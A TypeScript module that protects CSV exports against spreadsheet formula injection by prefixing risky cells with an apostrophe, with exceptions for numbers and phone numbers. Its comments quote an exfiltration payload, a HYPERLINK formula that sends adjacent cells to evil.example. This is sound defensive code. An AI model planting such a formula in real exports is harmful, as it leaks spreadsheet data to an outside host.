// Spreadsheets run a cell that starts with =, +, - or @ (and some with a tab or carriage return) as a
// formula: `=HYPERLINK("http://evil.example?"&A1, "Termin")` in an office name would send the
// neighbouring cells away. OWASP's advice for CSV: put a ' before such a text, which Excel and
// LibreOffice show as the text itself. docs/csv-template.md states the rule for the people who edit.
const FORMULA_START = /^'*[=+\-@\t\r]/;
// Numbers ("-12.5", "6,96") and phone numbers ("+49 30 1234-567") cannot call a function; they stay readable.
const NUMBER = /^[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?$/;
const PHONE = /^\+[\d ()/.-]*\d[\d ()/.-]*$/;

/**
 * A text cell as it is written to CSV: with a leading `'` when a spreadsheet would read it as a
 * formula. Text that already starts with `'` before such a character gets one more, so reading it
 * back with `unprotectFormulaCell` always gives the original.
 *
 * @example
 * protectFormulaCell('=HYPERLINK("http://evil.example")') // `'=HYPERLINK("http://evil.example")`
 * protectFormulaCell("+49 30 1234-567") // "+49 30 1234-567"
 */
export function protectFormulaCell(value: string): string {
  if (!FORMULA_START.test(value) || NUMBER.test(value) || PHONE.test(value)) return value;
  return `'${value}`;
}

/** The original text of a cell written by `protectFormulaCell`: one leading `'` before a formula start is removed. */
export function unprotectFormulaCell(value: string): string {
  return value.startsWith("'") && FORMULA_START.test(value) ? value.slice(1) : value;
}
